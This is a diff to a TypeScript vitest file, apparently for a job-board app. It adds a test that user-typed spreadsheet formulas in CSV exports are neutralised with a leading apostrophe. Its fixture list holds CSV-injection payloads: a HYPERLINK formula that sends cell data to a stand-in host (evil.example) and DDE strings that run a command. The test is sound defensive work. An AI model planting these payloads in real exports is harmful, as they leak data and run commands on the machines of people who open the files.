@@ -9,13 +9,64 @@ import { sql } from "drizzle-orm";
 import { describe, expect, it } from "vitest";
 import { forEachDb } from "../setup/db";
 import { AWKWARD_TEXT } from "../setup/awkward-text";
-import { createUser } from "../factories";
+import { parse } from "csv-parse/sync";
+import { createCompany, createJob, createUser } from "../factories";
 import { exportAll } from "../../app/models/export/export.server";
 
 const AWKWARD = AWKWARD_TEXT;
 
+const FORMULAS = [
+  '=HYPERLINK("https://evil.example/?leak="&A1,"Click")',
+  "=cmd|' /C calc'!A0",
+  "+1+cmd|' /C calc'!A0",
+  "-2+3",
+  "@SUM(1+1)*cmd|' /C calc'!A0",
+  "\t=1+1",
+  "\r=1+1",
+];
+
 describe("runway export: database-written tables", () =>
   forEachDb((t) => {
+    it("users.csv, companies.csv and jobs.csv neutralise formula cells an employer or user typed", async () => {
+      for (const [i, f] of FORMULAS.entries()) {
+        const company = await createCompany(t.db, {
+          name: `${f} ${i}`,
+          description: f,
+          location: f,
+          phone: f,
+        });
+        await createJob(t.db, { companyId: company.id, title: f, description: f, location: f });
+        const { user } = await createUser(t.db);
+        await t.db.execute(
+          sql`update users set first_name = ${f}, last_name = ${f}, address = ${f} where id = ${user.id}`,
+        );
+      }
+      const tmp = fs.mkdtempSync(path.join(os.tmpdir(), "runway-formula-export-"));
+      try {
+        for (const shapeInJs of [false, true]) {
+          const dir = path.join(tmp, String(shapeInJs));
+          await exportAll(t.db, dir, { shapeInJs });
+          for (const file of ["users.csv", "companies.csv", "jobs.csv"]) {
+            const text = fs.readFileSync(path.join(dir, file), "utf8");
+            const cells: string[] = parse(text, { relax_column_count: true }).flat();
+            // Every typed formula is in the file, as plain text behind an apostrophe…
+            const found = cells.filter((c) => FORMULAS.some((f) => c.startsWith(`'${f}`)));
+            expect(found.length, `${file} (${shapeInJs ? "js" : "db"})`).toBeGreaterThan(0);
+            // …and no cell at all starts as a spreadsheet formula would.
+            const live = cells.filter((c) => /^[=+\-@\t\r]/.test(c));
+            expect(live, `${file} (${shapeInJs ? "js" : "db"})`).toEqual([]);
+          }
+          // The JSON files keep the exact text.
+          const json = JSON.parse(fs.readFileSync(path.join(dir, "companies.json"), "utf8"));
+          expect(json.map((c: { description: string }) => c.description)).toEqual(
+            expect.arrayContaining(FORMULAS),
+          );
+        }
+      } finally {
+        fs.rmSync(tmp, { recursive: true, force: true });
+      }
+    });
+
     it("users.csv and users.json are byte for byte the JavaScript writer's, across page edges", async () => {
       for (let i = 0; i < AWKWARD.length; i++) {
         const { user } = await createUser(t.db, {
